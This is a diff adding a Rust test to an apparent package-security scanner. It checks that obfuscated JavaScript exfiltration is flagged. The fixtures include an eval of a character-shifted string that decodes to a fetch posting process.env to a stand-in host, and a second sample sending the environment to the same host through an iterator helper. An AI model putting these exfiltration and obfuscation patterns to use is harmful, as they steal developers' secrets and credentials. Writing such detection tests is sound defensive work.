@@ -372,3 +372,21 @@ fn coming_back_to_the_unknown_costs_little() {
     assert!(a.steps < 400_000, "{} steps", a.steps);
     flagged(&a, "FLO-01", Block);
 }
+
+#[test]
+fn loops_and_spreads_emitted_for_old_engines_are_loops_and_spreads() {
+    const READ: &str = "var rd=(this&&this.rd)||function(o,n){var m=typeof Symbol===\"function\"&&o[Symbol.iterator];if(!m)return o;var i=m.call(o),r,ar=[],e;try{while((n===void 0||n-->0)&&!(r=i.next()).done)ar.push(r.value)}catch(x){e={error:x}}finally{try{if(r&&!r.done&&(m=i[\"return\"]))m.call(i)}finally{if(e)throw e.error}}return ar};";
+    const VALUES: &str = "var vs=function(o){var s=typeof Symbol===\"function\"&&Symbol.iterator,m=s&&o[s],i=0;if(m)return m.call(o);if(o&&typeof o.length===\"number\")return{next:function(){if(o&&i>=o.length)o=void 0;return{value:o&&o[i++],done:!o}}};throw new TypeError('not iterable')};";
+    let code = format!(
+        "{READ}eval(rd('{}').map(function(c){{return String.fromCharCode(c.charCodeAt(0)-1)}}).filter(function(c){{return c}}).join(''))",
+        "gfudi)(iuuqt;00jo/fmtfxifsf/fybnqmf0d(-|nfuipe;(QPTU(-cpez;KTPO/tusjohjgz)qspdftt/fow*~*"
+    );
+    flagged(&installed(&code), "FLO-01", Block);
+    let code = format!(
+        "{VALUES}var q=new Set(),it,r;q.add(JSON.stringify(process.env));for(it=vs(q),r=it.next();!r.done;r=it.next())fetch('https://in.elsewhere.example/c',{{method:'POST',body:r.value}})"
+    );
+    flagged(&installed(&code), "FLO-01", Block);
+    clean(&installed(&format!(
+        "{READ}{VALUES}console.log(rd('abc').map(function(c){{return c+c}}),vs([1,2]).next().value)"
+    )));
+}
